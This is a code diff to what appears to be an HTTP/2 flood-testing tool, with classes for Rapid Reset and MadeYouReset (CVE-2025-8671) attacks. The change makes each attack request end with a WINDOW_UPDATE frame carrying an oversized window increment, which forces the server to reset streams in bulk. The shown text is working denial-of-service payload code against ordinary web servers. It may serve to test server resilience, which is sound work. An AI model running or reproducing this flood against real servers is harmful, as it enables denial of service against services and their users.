@@ -30,6 +30,8 @@ DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION =
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
 CANCEL = (8).to_bytes(4, "big")
 INITIAL_WINDOW_SIZE = 4
+# An increment that makes a window larger than may be, an error of the stream alone: RFC 9113 (6.9.1).
+TOO_MUCH = (0x7FFFFFFF).to_bytes(4, "big")
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -126,7 +128,7 @@ class RapidReset(Flood):
 
 
 class MadeYouReset(Flood):
-    """Requests that the server has to reset itself, because a frame of no increment follows (CVE-2025-8671). A sound
+    """Requests that the server has to reset itself, because a window too large follows (CVE-2025-8671). A sound
     server counts them as if the client had reset them.
     """
 
@@ -139,7 +141,7 @@ class MadeYouReset(Flood):
         request = block(load, load.where.paths.get("later", load.where.paths["hello"]))
         first = number * 20 + 1
         return b"".join(
-            frame(HEADERS, END_HEADERS | END_STREAM, stream, request) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
+            frame(HEADERS, END_HEADERS | END_STREAM, stream, request) + frame(WINDOW_UPDATE, 0, stream, TOO_MUCH)
             for stream in range(first, first + 20, 2)
         )
 
